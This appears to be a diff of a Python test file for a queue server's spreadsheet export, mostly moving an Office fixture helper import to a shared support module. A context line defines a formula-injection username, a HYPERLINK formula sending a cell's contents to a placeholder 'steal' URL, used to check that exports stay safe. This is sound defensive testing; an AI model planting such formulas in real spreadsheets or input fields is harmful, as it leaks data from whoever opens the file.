@@ -10,8 +10,8 @@ from openpyxl import load_workbook
 
 from queue_server import auth
 from queue_server.store.db import connect
+from tests.support.reports_office import Office, add_person
 
-from .conftest import Office, _add_person
 from .test_report_figures import morning  # noqa: F401  (module fixture: the played morning)
 
 
@@ -85,7 +85,7 @@ CLERK_FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Bấm vào đ�
 def formula_clerk(office: Office) -> Office:
     """An office where counter 1's clerk signed up under a name a spreadsheet would run, and served a ticket."""
     with connect(office.db_path) as db:
-        _add_person(db.conn, CLERK_FORMULA, "clerk", [1])
+        add_person(db.conn, CLERK_FORMULA, "clerk", [1])
         person_id = db.conn.execute("SELECT id FROM users WHERE username = ?", (CLERK_FORMULA,)).fetchone()[0]
         person = auth.Principal("person", person_id, CLERK_FORMULA, "clerk", (1,))
         office.tokens["formula"], _ = auth.open_session(db.conn, person, 12)
